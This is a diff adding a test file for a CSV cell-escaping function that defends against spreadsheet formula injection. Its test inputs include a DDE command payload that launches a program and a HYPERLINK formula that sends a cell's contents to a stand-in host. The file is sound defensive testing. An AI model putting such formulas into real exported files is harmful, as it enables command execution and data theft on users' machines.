@@ -1,0 +1,41 @@
+import { expect, test } from 'vitest'
+import { csvCell } from './csv-cell.ts'
+
+const bomb = `cmd|' /C calc'!A0`
+const formulas = [
+  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '−'].map((sign) => sign + bomb),
+  ...['\t', '\r', '\n', ' ', '\u00a0', '\u200b', '\ufeff', '"', "'", '` ', '“', '« ', '" \'', '\t\r '].map(
+    (before) => `${before}=${bomb}`,
+  ),
+  '\tplain',
+  '\r@SUM(1)',
+  '-2+3',
+  '=HYPERLINK("http://x.example?"&A1;"ok")',
+  '=1;=2\r\n=3',
+]
+
+/** A cell as a spreadsheet reads it from a line of its own. */
+function readBack(written: string): string {
+  if (!written.startsWith('"')) return written
+  expect(written.endsWith('"')).toBe(true)
+  return written.slice(1, -1).replaceAll('""', '"')
+}
+
+test.each(formulas)('%j is text to a spreadsheet, and nothing of it is lost', (cell) => {
+  expect(readBack(csvCell(cell))).toBe(`'${cell}`)
+})
+
+test.each([
+  'plain',
+  '',
+  '12.50',
+  'a = b',
+  'x@y.example',
+  'M8-40',
+  'say "hello"',
+  'a;b',
+  'два\nряда',
+  'O’Brien',
+])('%j stays as it is', (cell) => {
+  expect(readBack(csvCell(cell))).toBe(cell)
+})
